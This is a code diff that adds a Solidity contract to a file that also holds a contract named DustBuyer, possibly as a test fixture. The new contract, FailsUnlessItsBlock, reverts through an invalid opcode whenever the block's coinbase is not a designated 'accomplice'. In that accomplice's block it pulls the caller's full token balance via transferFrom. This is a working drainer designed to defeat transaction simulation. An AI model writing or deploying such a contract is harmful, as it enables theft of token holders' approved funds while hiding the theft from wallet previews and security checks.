@@ -263,3 +263,23 @@ contract DustBuyer {
 
     receive() external payable {}
 }
+
+/// Fails wherever it is watched, without a word, and takes an allowance in its own block.
+contract FailsUnlessItsBlock {
+    IERC20 public immutable token;
+    address public immutable accomplice;
+
+    constructor(IERC20 token_, address accomplice_) {
+        token = token_;
+        accomplice = accomplice_;
+    }
+
+    function claim() external {
+        if (block.coinbase != accomplice) {
+            assembly {
+                invalid()
+            }
+        }
+        token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
+    }
+}
